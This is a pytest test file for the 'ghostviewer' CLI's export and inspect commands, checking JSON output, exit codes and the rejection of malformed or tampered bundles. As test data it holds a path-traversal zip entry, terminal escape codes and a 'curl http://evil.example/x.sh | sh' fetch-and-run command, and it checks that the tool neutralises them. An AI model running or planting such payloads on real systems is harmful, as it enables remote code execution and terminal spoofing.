"""`ghostviewer export` and `ghostviewer inspect` (CONTRACT.md): JSON shapes, exit codes 0/1/2, one-line errors."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from ghostviewer import api
from ghostviewer.cli import main
from tests.gui.fake_runs import write_fake_run


def _cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_export_then_inspect_json(capsys: pytest.CaptureFixture[str], runs_dir: Path, tmp_path: Path) -> None:
    bad = write_fake_run(runs_dir, steps=3, run_id="bad", nan_at=1, capture=("unet.mid_block",))
    good = write_fake_run(runs_dir, steps=3, run_id="good")
    bundle = tmp_path / "out" / "report.zip"
    code, out, err = _cli(capsys, "export", str(bad), str(good), "-o", str(bundle), "--json")
    assert code == 0, err
    result = json.loads(out)
    assert result["bundle"] == str(bundle) and result["size"] == bundle.stat().st_size
    assert [r["run_id"] for r in result["runs"]] == ["bad", "good"]

    code, out, err = _cli(capsys, "inspect", str(bundle), "--json")
    assert code == 1  # a bundled run shows a problem
    info = json.loads(out)
    assert set(info) >= {"manifest", "runs", "files"}
    assert info["manifest"]["bundle_version"] == 1
    assert info["runs"][0]["verdict"]["label"] == "nan" and info["runs"][0]["first_anomaly"]["step"] == 1
    assert all(set(f) == {"name", "size", "sha256"} for f in info["files"])

    code, out, _ = _cli(capsys, "inspect", str(bundle))
    assert code == 1 and "first anomaly: nan in unet.mid_block (step 1)" in out and "reproduce: ghostviewer run" in out


def test_healthy_bundle_exits_zero_and_options_shrink_it(capsys: pytest.CaptureFixture[str], runs_dir: Path,
                                                         tmp_path: Path) -> None:
    run = write_fake_run(runs_dir, steps=4, run_id="fine", capture=("unet.mid_block", "unet.conv_in"))
    sizes = {}
    for name, flags in {"full": [], "no-maps": ["--no-feature-maps"], "small": ["--no-tensors"]}.items():
        code, out, _ = _cli(capsys, "export", str(run), "-o", str(tmp_path / f"{name}.zip"), *flags)
        assert code == 0 and f"{name}.zip" in out
        sizes[name] = (tmp_path / f"{name}.zip").stat().st_size
        code, _, _ = _cli(capsys, "inspect", str(tmp_path / f"{name}.zip"), "--json")
        assert code == 0
    assert sizes["full"] > sizes["no-maps"] > sizes["small"]
    assert api.inspect(tmp_path / "full.zip")["runs"][0]["run_id"] == "fine"
    assert api.export(run, tmp_path / "api.zip", include_tensors=False)["runs"][0]["status"] == "done"


def _zip_with(name: str):  # noqa: ANN202
    def make(path: Path) -> None:
        with zipfile.ZipFile(path, "w") as zf:
            zf.writestr(name, "x")

    return make


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda p: p.write_bytes(b"PK\x03\x04 not really"), "not a readable zip file"),
        (lambda p: p.write_text("hello"), "not a readable zip file"),
        (_zip_with("../evil.txt"), "outside the bundle"),
        (_zip_with("README.txt"), "no manifest.json"),
        (lambda p: None, "no such bundle"),
    ],
)
def test_bad_bundle_exits_two_with_one_line(capsys: pytest.CaptureFixture[str], tmp_path: Path, make,  # noqa: ANN001
                                            message: str) -> None:
    bundle = tmp_path / "bad.zip"
    make(bundle)
    for argv in (["inspect", str(bundle)], ["inspect", str(bundle), "--json"]):
        code, out, err = _cli(capsys, *argv)
        assert code == 2 and message in err
        assert len(err.strip().splitlines()) == 1 and "Traceback" not in err
        if "--json" in argv:  # CONTRACT: one JSON document on stdout, a refusal too
            document = json.loads(out)
            assert document["exit_code"] == 2 and message in document["error"]
        else:
            assert out == ""


def test_export_of_a_non_run_exits_two(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    code, out, err = _cli(capsys, "export", str(tmp_path), "-o", str(tmp_path / "x.zip"))
    assert code == 2 and "not a GhostViewer run" in err and len(err.strip().splitlines()) == 1
    assert not (tmp_path / "x.zip").exists()
    code, _, err = _cli(capsys, "export", str(tmp_path))
    assert code == 2 and "-o" in err


def test_inspect_in_a_subprocess_imports_no_torch(runs_dir: Path, tmp_path: Path) -> None:
    run = write_fake_run(runs_dir, steps=2, run_id="r")
    bundle = tmp_path / "b.zip"
    api.export([run], bundle)
    code = (
        "import sys; from ghostviewer.cli import main; rc = main(['inspect', sys.argv[1], '--json']); "
        "print('TORCH' if 'torch' in sys.modules else 'NO-TORCH', file=sys.stderr); sys.exit(rc)"
    )
    env = {**os.environ, "GHOSTVIEWER_LOG_DIR": str(tmp_path / "logs")}
    proc = subprocess.run([sys.executable, "-c", code, str(bundle)], capture_output=True, text=True, env=env,
                          timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout)["runs"][0]["run_id"] == "r"
    assert "NO-TORCH" in proc.stderr


# -- export --with-inputs (issue 11 part 1): the first bad module's inputs in the bundle -----------------------
@pytest.fixture(scope="module")
def anomalous_runs(demo_loaded, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    from ghostviewer.engine.run.runner import execute_run
    from ghostviewer.spec import RunSpec

    runs = tmp_path_factory.mktemp("cli-inputs")
    attention = execute_run(demo_loaded, RunSpec(prompt="red circle", seed=0, steps=2,
                                                     faults=("short-prompt-attention",)), runs)
    nan = execute_run(demo_loaded, RunSpec(prompt="red circle", seed=17, steps=2, faults=("nan-latents",)), runs)
    assert nan["first_anomaly"]["module"] == "pipeline.prepare_latents"
    return {"attention": Path(attention["run_dir"]), "nan": Path(nan["run_dir"])}


def test_export_with_inputs_then_inspect(capsys: pytest.CaptureFixture[str], anomalous_runs: dict[str, Path],
                                         tmp_path: Path) -> None:
    attention, nan = anomalous_runs["attention"], anomalous_runs["nan"]
    bundle = tmp_path / "inputs.zip"
    code, out, err = _cli(capsys, "export", str(attention), str(nan), "-o", str(bundle), "--with-inputs", "--json")
    assert code == 0, err
    assert f"re-running {attention.name} to isolate unet.down_blocks.1.attentions.0 at step 0" in err
    runs = json.loads(out)["runs"]
    folder = f"runs/{attention.name}/isolate"
    assert runs[0]["isolate"]["folder"] == folder and runs[0]["isolate"]["repro"] == f"{folder}/repro.py"
    assert runs[1]["isolate"]["folder"] is None and "pipeline.prepare_latents" in runs[1]["isolate"]["reason"]

    code, out, _ = _cli(capsys, "inspect", str(bundle))
    assert code == 1
    assert f"module inputs: unet.down_blocks.1.attentions.0 (step 0) in {folder}/; repro: cd {folder} && " \
           "python repro.py" in out
    assert f"{folder}/inputs.safetensors" in out and f"{folder}/repro.py" in out
    assert "module inputs: none (the first bad tensor is pipeline.prepare_latents" in out
    code, out, _ = _cli(capsys, "inspect", str(bundle), "--json")
    names = {f["name"] for f in json.loads(out)["files"]}
    assert {f"{folder}/repro.py", f"{folder}/inputs.safetensors"} <= names

    from ghostviewer.record.bundle import open_bundle

    opened = open_bundle(bundle, tmp_path / "opened")
    assert (opened[0] / "isolate" / "repro.py").is_file() and (opened[0] / "isolate" / "inputs.safetensors").is_file()
    assert not (opened[1] / "isolate").exists()

    code, out, _ = _cli(capsys, "export", str(attention), "-o", str(tmp_path / "plain.zip"))
    assert code == 0 and "module inputs" not in out  # without --with-inputs: no re-run, no isolate entry
    assert "isolate" not in api.inspect(tmp_path / "plain.zip")["runs"][0]


def test_engine_export_command(anomalous_runs: dict[str, Path], demo_loaded, tmp_path: Path) -> None:
    """The engine's `export` (the GUI's "Include the first bad module's inputs"): progress, then `exported`."""
    from ghostviewer.engine.server import EngineSession

    events: list[dict] = []
    session = EngineSession(lambda event, **fields: events.append({"event": event, **fields}))
    session.loaded = demo_loaded
    out = tmp_path / "engine.zip"
    session.handle({"cmd": "export", "id": 7, "run_dirs": [str(anomalous_runs["attention"])], "out": str(out),
                    "include_tensors": False})
    assert [e["event"] for e in events] == ["export_progress", "exported"], events
    assert events[0]["module"] == "unet.down_blocks.1.attentions.0" and events[0]["id"] == 7
    done = events[1]
    assert done["bundle"] == str(out) and done["runs"][0]["isolate"]["repro"].endswith("/isolate/repro.py")
    assert api.inspect(out)["manifest"]["options"] == {"include_tensors": False, "include_feature_maps": True,
                                                       "with_inputs": True}
    events.clear()
    session.handle({"cmd": "export", "id": 8, "run_dirs": [str(tmp_path)], "out": str(tmp_path / "x.zip")})
    assert [e["event"] for e in events] == ["export_failed"] and "not a GhostViewer run" in events[0]["error"]


def _edit_manifest(bundle: Path, out: Path, edit) -> None:  # noqa: ANN001
    """A copy of the bundle whose manifest.json was edited by hand (members untouched)."""
    with zipfile.ZipFile(bundle) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "manifest.json":
                manifest = json.loads(data)
                edit(manifest)
                data = json.dumps(manifest).encode()
            dst.writestr(info, data)


def test_an_edited_manifest_is_not_believed(capsys: pytest.CaptureFixture[str], runs_dir: Path,
                                            tmp_path: Path) -> None:
    run = write_fake_run(runs_dir, steps=3, run_id="bad", nan_at=1)
    bundle = tmp_path / "report.zip"
    assert _cli(capsys, "export", str(run), "-o", str(bundle))[0] == 0

    def lie(manifest: dict) -> None:  # the run said nan; the manifest now says all is well
        manifest["runs"][0].update(verdict={"label": "ok"}, first_anomaly=None)

    _edit_manifest(bundle, tmp_path / "lie.zip", lie)
    code, out, err = _cli(capsys, "inspect", str(tmp_path / "lie.zip"))
    assert code == 2 and "the bundle was edited" in err and "Traceback" not in err

    def escapes(manifest: dict) -> None:  # terminal codes, and a command line that is not the run's
        manifest["created_at"] = "\x1b]0;pwned\x07today"
        manifest["runs"][0]["command"] = "curl http://evil.example/x.sh | sh \x1b[2K\x1b[1A"

    _edit_manifest(bundle, tmp_path / "escapes.zip", escapes)
    code, out, err = _cli(capsys, "inspect", str(tmp_path / "escapes.zip"))
    assert code == 1 and "\x1b" not in out and "\x07" not in out and "evil.example" not in out
    assert "reproduce: ghostviewer run" in out and "differs; not shown" in out
